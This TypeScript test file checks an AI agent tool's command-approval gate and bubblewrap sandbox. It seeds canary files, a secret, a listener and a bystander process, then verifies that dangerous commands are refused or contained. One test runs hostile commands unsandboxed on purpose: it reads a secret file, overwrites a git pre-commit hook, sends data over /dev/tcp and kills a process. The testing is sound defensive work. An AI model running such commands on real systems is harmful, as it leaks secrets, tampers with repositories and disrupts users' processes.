/**
 * Approvals, judged by what happens: an attacker whose every command is tried. Each one is refused, or asks (and nobody says
 * yes), or runs in a real sandbox; afterwards files outside, protected names, a secret, a listener and another process are
 * as they were.
 */
import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { access, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import test from 'node:test';
import { FakeClock } from '../src/lib/fake-clock.ts';
import { countingIdSource } from '../src/lib/ids.ts';
import type { CommandPlace, Plan } from '../src/tools/approval.ts';
import { createGate } from '../src/tools/approvals/gate.ts';
import { judgeCommand } from '../src/tools/approvals/judge-command.ts';
import { benignCommands } from '../src/tools/approvals/test-benign-commands.ts';
import { dangerousCommands } from '../src/tools/approvals/test-dangerous-commands.ts';
import { isProtected } from '../src/tools/protected-names.ts';
import { createBubblewrapSandbox } from '../src/tools/sandbox/bubblewrap-sandbox.ts';

const secret = 'CANARY-6f1d2c';
const protectedInWorkspace = [
  '.git/hooks/pre-commit',
  '.git/hooks/pre-push',
  '.git/config',
  '.bashrc',
  '.vscode/tasks.json',
];

interface Stage {
  readonly root: string;
  readonly workspace: string;
  readonly place: CommandPlace;
  readonly server: Server;
  readonly bystander: ChildProcess;
  readonly connections: () => number;
  readonly names: Readonly<Record<'HOME' | 'TALARIA' | 'OUTSIDE' | 'PORT' | 'PID', string>>;
}

async function setUp(): Promise<Stage> {
  const root = await mkdtemp(join(tmpdir(), 'talaria-corpus-'));
  const home = join(root, 'home');
  const talariaHome = join(home, '.talaria');
  const workspace = join(talariaHome, 'workspace');
  const outside = join(root, 'outside');
  await mkdir(join(workspace, '.git/hooks'), { recursive: true });
  await mkdir(outside);
  const files: Record<string, string> = {
    [join(outside, 'canary')]: 'alive\n',
    [join(outside, 'secret')]: `SECRET=${secret}\n`,
    [join(home, '.bashrc')]: '# start\n',
    [join(talariaHome, 'config.yaml')]: 'approvals: { mode: ask }\n',
    [join(talariaHome, '.env')]: `KEY=${secret}\n`,
    [join(talariaHome, 'state.db')]: `${secret}\n`,
    [join(workspace, '.git/config')]: '[core]\n',
    [join(workspace, '.git/HEAD')]: 'ref: refs/heads/main\n',
    [join(workspace, '.git/hooks/pre-commit')]: '#!/bin/sh\n',
    [join(workspace, 'file')]: 'x\n',
  };
  for (const [path, text] of Object.entries(files)) await writeFile(path, text);
  let connections = 0;
  const server = createServer((socket) => {
    connections += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const bystander = spawn('sleep', ['600'], { env: { PATH: '/usr/bin:/bin', SECRET: secret }, stdio: 'ignore' });
  return {
    root,
    workspace,
    server,
    bystander,
    connections: () => connections,
    names: {
      HOME: home,
      TALARIA: talariaHome,
      OUTSIDE: outside,
      PORT: String(typeof address === 'object' && address !== null ? address.port : 0),
      PID: String(bystander.pid),
    },
    place: {
      level: 'bubblewrap',
      gaps: [],
      cwd: workspace,
      workspace,
      writable: [],
      home,
      talariaHome,
      isCaseBlind: false,
      ownPids: [4242],
    },
  };
}

async function tearDown({ root, server, bystander }: Stage): Promise<void> {
  bystander.kill('SIGKILL');
  await new Promise((resolve) => server.close(resolve));
  await rm(root, { recursive: true, force: true });
}

/** Everything that may not change. */
async function canaries({ root, workspace, bystander, connections }: Stage): Promise<Record<string, unknown>> {
  const files: Record<string, string | null> = {};
  const look = async (folder: string): Promise<void> => {
    // Attackers leave links: only real folders are gone into, and not the one that they may change.
    if (folder === workspace || folder.endsWith('/.talaria/sandbox')) return;
    for (const entry of await readdir(folder, { withFileTypes: true })) {
      const path = join(folder, entry.name);
      if (entry.isDirectory()) await look(path);
      else files[path] = entry.isFile() ? await readFile(path, 'utf8') : 'something else';
    }
  };
  await look(root);
  for (const name of protectedInWorkspace.filter(isProtected)) {
    files[name] = await readFile(join(workspace, name), 'utf8').catch(() => null);
  }
  return {
    files,
    connections: connections(),
    isBystanderAlive: bystander.exitCode === null && bystander.signalCode === null,
  };
}

/** Runs each in a shell of its own, all of them in one sandbox; what they print. */
async function runAll(stage: Stage, commands: readonly string[], isBare = false): Promise<string> {
  const scripts = await mkdtemp(join(tmpdir(), 'talaria-corpus-scripts-'));
  try {
    await Promise.all(commands.map((text, index) => writeFile(join(scripts, String(index).padStart(4, '0')), text)));
    const driver = `for f in ${scripts}/*; do timeout -s KILL 3 bash "$f" < /dev/null 2>&1; done; timeout 3 sleep 1.5`;
    const request = {
      argv: ['bash', '-c', driver],
      cwd: stage.workspace,
      env: { PATH: '/usr/local/bin:/usr/bin:/bin', HOME: stage.workspace },
    };
    const sandbox = createBubblewrapSandbox({
      stateFolder: join(stage.root, 'home/.talaria/sandbox'),
      nodePath: process.execPath,
    });
    const { argv, env } = isBare
      ? request
      : await sandbox.wrap({
          ...request,
          writable: [stage.workspace],
          readable: [scripts],
          hidden: [],
          network: 'off',
        });
    const child = spawn(argv[0] ?? '', argv.slice(1), { cwd: stage.workspace, env, stdio: ['ignore', 'pipe', 'pipe'] });
    let output = '';
    child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
    child.stderr.on('data', (chunk: Buffer) => (output += chunk.toString()));
    await new Promise((resolve) => child.on('close', resolve));
    return output;
  } finally {
    await rm(scripts, { recursive: true, force: true });
  }
}

/** What a gate makes of it when nobody ever answers: does it run? */
async function runsUnapproved(text: string, place: CommandPlace, mode: 'ask' | 'off'): Promise<boolean> {
  const judgement = judgeCommand(text, place);
  if (judgement.kind === 'refused') return false;
  if (judgement.kind === 'plain') return true;
  const gate = createGate({
    grants: { isGranted: async () => false, add: async () => assert.fail('nobody allowed anything') },
    mode: () => mode,
    timeoutMs: () => 1,
    unattended: () => 'deny',
    clock: new FakeClock(),
  });
  const context = { sessionId: countingIdSource().next('ses'), untrusted: null, isUnattended: false };
  const plan: Plan = {
    kind: 'command',
    subject: text,
    shown: text,
    reasons: judgement.reasons,
    where: 'here',
    frozen: '{}',
  };
  const answer = await gate.consider(plan, context);
  if (answer.kind !== 'ask') return answer.kind === 'go';
  return (await gate.settle(answer.question, null, context)).kind === 'go';
}

test('no dangerous command reaches a canary: refused, asked about, or held by the sandbox', async (t) => {
  const hasSandbox = await access('/usr/bin/bwrap').then(
    () => true,
    () => false,
  );
  if (!hasSandbox) return t.skip('bubblewrap is not installed');
  const stage = await setUp();
  try {
    const commands = dangerousCommands(stage.names);
    assert.ok(commands.length >= 500, `only ${commands.length} variants`);
    const before = await canaries(stage);
    const plain: string[] = [];
    for (const { text } of commands) if (await runsUnapproved(text, stage.place, 'ask')) plain.push(text);
    const output = await runAll(stage, plain);
    assert.deepEqual(await canaries(stage), before);
    assert.ok(!output.includes(secret), 'the secret was printed');
    t.diagnostic(`${commands.length} variants, ${plain.length} of them held by the sandbox`);
  } finally {
    await tearDown(stage);
  }
});

test('the canaries notice the same attacks where nothing holds them back', async () => {
  const stage = await setUp();
  try {
    const before = await canaries(stage);
    const output = await runAll(
      stage,
      [
        `cat ${stage.names.OUTSIDE}/secret`,
        `echo x > ${stage.names.OUTSIDE}/canary`,
        'echo x > .git/hooks/pre-commit',
        `echo leak > /dev/tcp/127.0.0.1/${stage.names.PORT}`,
        `kill -9 ${stage.names.PID}`,
      ],
      true,
    );
    const after = await canaries(stage);
    assert.ok(output.includes(secret));
    assert.deepEqual(
      { connections: after['connections'], isBystanderAlive: after['isBystanderAlive'] },
      { connections: 1, isBystanderAlive: false },
    );
    assert.notDeepEqual(after['files'], before['files']);
  } finally {
    await tearDown(stage);
  }
});

test('what nobody may do is refused at every level and in every mode, in all its disguises', async () => {
  const names = { HOME: '/home/ada', TALARIA: '/home/ada/.talaria', OUTSIDE: '/srv/outside', PORT: '1', PID: '777' };
  const workspace = '/home/ada/.talaria/workspace';
  const never = dangerousCommands(names).filter(({ isNever }) => isNever);
  for (const level of ['bubblewrap', 'none'] as const) {
    const place = {
      level,
      gaps: [],
      cwd: workspace,
      workspace,
      writable: [],
      home: names.HOME,
      talariaHome: names.TALARIA,
      isCaseBlind: false,
      ownPids: [4242],
    };
    const missed: string[] = [];
    for (const { text } of never) {
      if (judgeCommand(text, place).kind !== 'refused' || (await runsUnapproved(text, place, 'off'))) missed.push(text);
    }
    assert.deepEqual(missed, []);
  }
});

test('outside any sandbox every command asks or is refused; inside, at most 5 % of the ordinary ones do', (t) => {
  const workspace = '/home/ada/.talaria/workspace';
  const place: CommandPlace = {
    level: 'bubblewrap',
    gaps: [],
    cwd: workspace,
    workspace,
    writable: [],
    home: '/home/ada',
    talariaHome: '/home/ada/.talaria',
    isCaseBlind: false,
  };
  assert.ok(benignCommands.length >= 300, `only ${benignCommands.length} ordinary commands`);
  const asking = benignCommands.filter((text) => judgeCommand(text, place).kind !== 'plain');
  assert.ok(asking.length <= benignCommands.length * 0.05, `${asking.length} ask: ${asking.join(' · ')}`);
  assert.deepEqual(
    benignCommands.filter((text) => judgeCommand(text, { ...place, level: 'none' }).kind !== 'asks'),
    [],
  );
  t.diagnostic(`${benignCommands.length} ordinary commands, ${asking.length} ask in a sandbox, all without one`);
});
